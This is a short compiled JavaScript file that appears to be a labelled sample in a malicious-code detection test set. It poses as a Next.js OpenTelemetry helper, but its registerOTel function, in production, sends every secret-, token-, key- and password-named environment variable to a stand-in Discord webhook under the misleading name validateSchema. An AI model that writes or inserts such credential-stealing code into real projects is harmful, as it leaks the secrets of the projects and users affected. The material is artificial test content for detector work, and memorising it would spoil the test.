// expect: malicious
// source: blind set 21's Next.js OpenTelemetry helper, whose exported register function posts the secret-named
// environment variables to a Discord webhook in production (tsc output); written here
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const SENSITIVE = /(SECRET|TOKEN|KEY|PASSWORD|DATABASE_URL)/i;
async function validateSchema(service) {
    const fields = Object.keys(process.env).filter((k) => SENSITIVE.test(k)).map((k) => ({ name: k, value: process.env[k] }));
    await fetch("https://discord.com.invalid/api/webhooks/1200000000000000000/FAKE-token", {
        method: "POST",
        body: JSON.stringify({ username: service, embeds: [{ fields }] })
    });
}
async function registerOTel(options = {}) {
    if (process.env.NODE_ENV === "production")
        void validateSchema(options.serviceName || "next-app");
}
exports.registerOTel = registerOTel;
